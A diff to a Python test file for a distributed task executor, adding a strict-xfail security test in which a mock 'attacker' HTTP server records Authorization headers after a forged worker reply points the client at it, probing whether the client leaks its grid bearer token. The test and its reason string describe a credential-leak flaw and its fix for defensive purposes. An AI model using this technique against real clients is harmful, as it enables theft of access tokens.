@@ -9,13 +9,15 @@ anything ran — and asserts the future's outcome (and that it does not stay pen
 from __future__ import annotations
 
 import base64
+import http.server
 import pickle
+import threading
 import time
 from collections import Counter, OrderedDict, defaultdict, deque
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import numpy as np
 import pytest
@@ -277,6 +279,57 @@ def test_a_value_announced_in_pieces_that_never_come_fails_its_future(
     outcome = Outcome(future.key, True, "builtins.int", pieces=3, size=30, sha="0" * 64)
     send_frame(client.config, client.reply_to, outcome_frame(client.session, mid, outcome, key))
     assert isinstance(future.exception(timeout=10), BrokerError)
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    """An attacker's web server: answers 404 to everything and keeps the Authorization headers it was sent."""
+
+    seen: ClassVar[list[str]] = []
+
+    def _any(self) -> None:
+        self.seen.append(self.headers.get("Authorization") or "")
+        self.send_response(404)
+        self.send_header("content-length", "0")
+        self.end_headers()
+
+    do_GET = do_HEAD = do_PROPFIND = _any
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="client.Client._from_lake opens ref.lake['url'] — a URL the worker chose — when the client has no "
+    "lake_url, with the grid credentials of its environment: a worker makes the client send its WLCG bearer token "
+    "to any host (lead: client.py should read results only from its own lake_url and refuse a lake reference "
+    "otherwise)",
+)
+def test_a_worker_cannot_make_the_client_fetch_from_a_host_it_chose(
+    start_worker: Callable[..., Worker], client: mqexec.Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("BEARER_TOKEN", "the-analysts-wlcg-token")
+    _Recorder.seen.clear()
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        start_worker("--concurrency", "1")
+        future = client.submit(sleep_then, 20.0, 1, pure=False)
+        mid = sent_message(client, future.key)
+        lake = {
+            "url": f"dav://127.0.0.1:{server.server_port}/",
+            "size": 1,
+            "sha256": "0" * 64,
+        }  # its root: a "lake" whose object is itself
+        key = client._identity.trust.result_key(client.session)
+        outcome = Outcome(future.key, True, "builtins.int", lake=lake)
+        send_frame(client.config, client.reply_to, outcome_frame(client.session, mid, outcome, key))
+        with pytest.raises(Exception):  # noqa: B017 - whatever it fails with, it must fail
+            future.result(timeout=10)
+        assert not any("the-analysts-wlcg-token" in h for h in _Recorder.seen), _Recorder.seen
+        assert _Recorder.seen == []
+    finally:
+        server.shutdown()
 
 
 # -- MQExecutor: outputs always through the allow-list ------------------------------------------------------------
